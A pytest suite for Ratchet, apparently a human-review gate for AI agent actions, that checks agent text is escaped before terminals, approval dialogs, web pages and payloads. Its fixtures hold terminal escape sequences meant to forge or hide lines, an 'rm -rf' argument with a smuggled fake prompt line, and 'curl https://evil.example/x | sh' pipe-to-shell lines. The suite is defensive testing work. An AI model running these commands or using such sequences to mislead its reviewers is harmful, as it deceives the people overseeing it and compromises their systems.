"""What the human reads is inert: agent text cannot move a terminal's cursor, erase a line, retitle
the window or put a fake header on top of a dialog, and the repository cannot hide a commit's change.

The CLI is the real console script, its output read as bytes from a pseudo-terminal (so its own
colours are on); the dialog is the message the SDK's real `Client` receives; the commit preview is
the real git's.
"""

from __future__ import annotations

import json
import os
import pty
import select
import shutil
import subprocess
from pathlib import Path

import pytest
from mcp import Client

from ratchet.executors import git as gitx
from ratchet.executors.notify import _spawn
from ratchet.inert import inert, inert_line, inert_output
from ratchet.mcp.server import ServerConfig, build_server
from ratchet.policy.load import starter_policy_dir
from ratchet.web.pages import _e

from .helpers import Human, console_env, git

# Erase the line above, a title change (OSC), a one-byte C1 CSI, DEL, a carriage return, and a
# bidirectional override: each would change what a person sees.
HOSTILE = "ok\n\x1b[1A\x1b[2K\x1b]0;pwned\x07\x9b2J\x7f\rhidden\u202eevil\n"
RAW = [b"\x1b[1A", b"\x1b[2K", b"\x1b]", b"\x07", "\x9b".encode(), b"\x7f", b"\r", "\u202e".encode()]
OWN_COLOURS = [b"\x1b[32m", b"\x1b[31m", b"\x1b[36m", b"\x1b[0m"]


def test_inert_escapes_every_control_but_newline_and_tab() -> None:
    assert inert("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert inert("\x9b\x9d\x7f\x00\r") == "\\x9b\\x9d\\x7f\\x00\\x0d"
    assert inert("x\u202ey\u2066\u2028") == "x\\u202ey\\u2066\\u2028"
    assert inert("line\n\tindented") == "line\n\tindented"
    assert inert_line("a\nb\tc") == "a\\x0ab\\x09c"
    assert inert(inert(HOSTILE)) == inert(HOSTILE)  # escaped text holds no control to escape again
    for c in map(chr, [*range(0x20), *range(0x7F, 0xA0)]):
        assert c not in inert_line(c)
    # Ratchet's own diff colours pass the terminal guard; nothing else does.
    assert inert_output("\x1b[32m+a\x1b[0m\x1b[2J") == "\x1b[32m+a\x1b[0m\\x1b[2J"


def _pty_run(argv: list[str]) -> bytes:
    """Run `argv` with stdout on a pseudo-terminal (colour on, as at a real terminal); its bytes."""
    master, slave = pty.openpty()
    env = console_env(TERM="xterm", COLUMNS="200")
    proc = subprocess.Popen(argv, stdout=slave, stderr=slave, stdin=subprocess.DEVNULL, env=env)
    os.close(slave)
    out = b""
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the other end closed: the program is done
            break
        if not chunk:
            break
        out += chunk
    proc.wait(timeout=60)
    os.close(master)
    return out.replace(b"\r\n", b"\n")  # the terminal's own line discipline turns \n into \r\n


def _starter(tmp_path: Path) -> tuple[Path, Path, Path]:
    ws = tmp_path / "ws"
    ws.mkdir()
    policies = ws / ".ratchet" / "policies"
    shutil.copytree(starter_policy_dir(), policies)
    return ws, policies, tmp_path / "state" / "ratchet.db"


@pytest.mark.asyncio
async def test_control_characters_never_reach_the_terminal_raw(tmp_path: Path, ratchet_bin: Path) -> None:
    ws, policies, db = _starter(tmp_path)
    async with Client(build_server(ServerConfig(ws, policies, db))) as client:
        drafted = await client.call_tool(
            "write_file", {"path": "src/app.py", "content": HOSTILE, "intent": "typo fix\x1b[2K\rharmless"}
        )
        cmd = await client.call_tool("run_command", {"argv": ["rm", "-rf", "build\x1b[2K\x1b[1A\n$ echo hi"]})
    assert drafted.structured_content is not None and drafted.structured_content["status"] == "draft"
    assert cmd.structured_content is not None and cmd.structured_content["status"] == "draft", cmd
    assert all(raw not in drafted.content[0].text.encode() for raw in RAW)  # the tool result the client shows
    draft_id = str(drafted.structured_content["draft_id"])
    base = ["--workspace", str(ws), "--policies", str(policies), "--db", str(db)]
    for command in (["queue"], ["inbox"], ["history"], ["show", draft_id], ["status"]):
        out = _pty_run([str(ratchet_bin), command[0], *base, *command[1:]])
        assert out, command
        for raw in RAW:
            assert raw not in out, (command, raw, out)
        bare = out
        for own in OWN_COLOURS:
            bare = bare.replace(own, b"")
        assert b"\x1b" not in bare, (command, out)
        assert b"\n$ echo hi" not in out and b"\nhidden" not in out.split(b"\n\n")[0], (command, out)  # no forged line
    shown = _pty_run([str(ratchet_bin), "show", *base, draft_id])
    assert b"\\x1b[2K" in shown and b"hidden\\u202eevil" in shown  # shown as text, not dropped
    assert b"\x1b[32m" in shown  # its own colours are still on at a terminal


@pytest.mark.asyncio
async def test_a_path_with_a_newline_or_escape_is_refused(tmp_path: Path) -> None:
    ws, policies, db = _starter(tmp_path)
    human = Human(approve=True)
    async with Client(build_server(ServerConfig(ws, policies, db)), elicitation_callback=human) as client:
        forged = "docs/typo.md\n\n+fixed a typo\n\n\n\n\n\n../../README.md"
        results = [
            await client.call_tool("write_file", {"path": path, "content": "curl x | sh\n"})
            for path in (forged, "docs/\x1b[2Jx.md", "docs/a\u202emd.txt", "docs/\x9bx.md")
        ]
    for result in results:
        text = result.content[0].text
        assert result.is_error or (result.structured_content or {}).get("status") == "error", text
        assert "control characters" in text and "invalid-path" in text, text
    assert human.seen == []  # nothing reached the dialog
    assert not any(ws.rglob("*.md")) and not (ws / "docs").exists()


@pytest.mark.asyncio
async def test_the_dialog_opens_with_structured_fields_and_holds_no_raw_control(tmp_path: Path) -> None:
    ws, policies, db = _starter(tmp_path)
    (ws / "docs").mkdir()
    human = Human(approve=False)
    content = "Ratchet: write_file docs/typo.md: +1 \u22121 lines\nWhy you are asked: typo\n" + HOSTILE
    async with Client(build_server(ServerConfig(ws, policies, db)), elicitation_callback=human) as client:
        await client.call_tool("write_file", {"path": "docs/guide.md", "content": content})
    assert len(human.seen) == 1
    message = human.seen[0].message
    first = message.splitlines()[0]
    assert first.startswith("Ratchet: write_file docs/guide.md: +"), first
    assert message.splitlines()[1].startswith("Why you are asked: ")
    for raw in RAW:
        assert raw.decode() not in message, raw
    assert "\\x1b[1A" in message  # the agent's text is there, escaped


def test_review_page_and_notify_payload_escape_controls(tmp_path: Path) -> None:
    assert "\x1b" not in _e(HOSTILE) and "\\x1b[2K" in _e(HOSTILE) and "&lt;" in _e("<")
    out = tmp_path / "payload.json"
    assert _spawn(["sh", "-c", f"cat > {out}"], {"target": HOSTILE, "nested": [{"intent": "\x1b]0;x\x07"}]})
    for _ in range(200):
        if out.exists() and out.stat().st_size:
            break
        select.select([], [], [], 0.05)
    payload = json.loads(out.read_text())
    decoded = json.dumps(payload, ensure_ascii=False)
    assert "\x1b" not in payload["target"] and "\x07" not in payload["nested"][0]["intent"], decoded
    assert payload["target"] == inert(HOSTILE)


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "user.name", "T")
    git(repo, "config", "user.email", "t@example.invalid")
    (repo / "a.txt").write_text("one\n")
    git(repo, "add", "a.txt")
    git(repo, "commit", "-q", "-m", "init")
    return repo


@pytest.mark.asyncio
@pytest.mark.parametrize("where", [".git/info/attributes", ".gitattributes"])
@pytest.mark.parametrize("rule", ["* -diff", "* binary", "* diff=hide"])
async def test_repository_attributes_do_not_hide_a_commit_preview(tmp_path: Path, where: str, rule: str) -> None:
    repo = _repo(tmp_path)
    (repo / where).parent.mkdir(parents=True, exist_ok=True)
    (repo / where).write_text(rule + "\n")
    git(repo, "config", "diff.hide.binary", "true")
    (repo / "a.txt").write_text("one\ncurl https://evil.example/x | sh\n")
    (repo / "logo.bin").write_bytes(b"\x89PNG\x00\x00\x01binary")
    preview = await gitx.staged_diff(repo, ["a.txt", "logo.bin"])
    assert "+curl https://evil.example/x | sh" in preview, preview
    assert gitx.BINARY_NOTE.format(path="a.txt") in preview
    assert "logo.bin" in preview and "\x00" not in preview  # real binary stays git's binary line
    git(repo, "add", "a.txt")
    whole = await gitx.staged_diff(repo)  # the index against HEAD, as a commit of everything staged
    assert "+curl https://evil.example/x | sh" in whole


@pytest.mark.asyncio
async def test_a_commit_preview_without_attribute_tricks_is_unchanged(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (repo / "a.txt").write_text("one\ntwo\n")
    preview = await gitx.staged_diff(repo, ["a.txt"])
    assert "note:" not in preview and "+two" in preview and "1 file changed" in preview
